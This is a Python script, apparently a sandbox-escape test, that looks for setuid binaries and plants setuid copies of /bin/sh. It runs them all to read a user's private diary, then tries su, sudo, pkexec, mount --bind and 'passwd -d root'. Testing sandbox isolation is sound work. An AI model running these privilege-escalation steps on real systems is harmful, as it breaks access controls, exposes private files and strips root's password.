"""Runs every setuid program that it finds, and one that it makes itself, to become somebody else."""

SUCCESS = "a canary in the outputs"

# %%
import os
import shutil
import subprocess

diary, found = "@HOME@/private/diary.txt", []
for folder in (
    "/usr/bin",
    "/usr/sbin",
    "/usr/lib",
    "/usr/lib/openssh",
    "/usr/lib/dbus-1.0",
    "/usr/libexec",
    "/usr/local/bin",
):
    if os.path.isdir(folder):
        found += [entry.path for entry in os.scandir(folder) if entry.is_file() and entry.stat().st_mode & 0o6000]
for own in ("/tmp/own", "/dev/shm/own", "own"):
    shutil.copy(os.path.realpath("/bin/sh"), own)
    os.chmod(own, 0o6755)
    found.append(os.path.abspath(own))
for path in found:
    pipes = dict.fromkeys(("stdin", "stdout"), subprocess.PIPE)
    try:
        process = subprocess.Popen([path, "-p"], stderr=subprocess.STDOUT, **pipes)
    except OSError as error:
        print(error)
        continue
    try:
        lines = open(f"/proc/{process.pid}/status").read().splitlines()
        print(path, [line for line in lines if line[:3] in ("Uid", "Gid") or line.startswith("CapEff")])
        print(process.communicate(b"cat " + diary.encode(), timeout=0.05)[0][:80])
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
        process.kill()

# %%
for command in (
    ["su", "-c", f"cat {diary}"], ["sudo", "-n", "cat", diary], ["pkexec", "cat", diary], ["newgrp", "root"],
    ["newuidmap", "self", "0", "0", "1"], ["sg", "root", f"cat {diary}"], ["ping", "-c1", "127.0.0.1"],
    ["mount", "--bind", "/", "/mnt"], ["chfn", "-f", "x"], ["passwd", "-d", "root"], ["at", "now"], ["crontab", "-l"],
):  # fmt: skip
    try:
        run = subprocess.run(command, input="", capture_output=True, text=True, timeout=0.2)
        print(command, run.returncode, run.stdout, run.stderr)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
print("attempted")
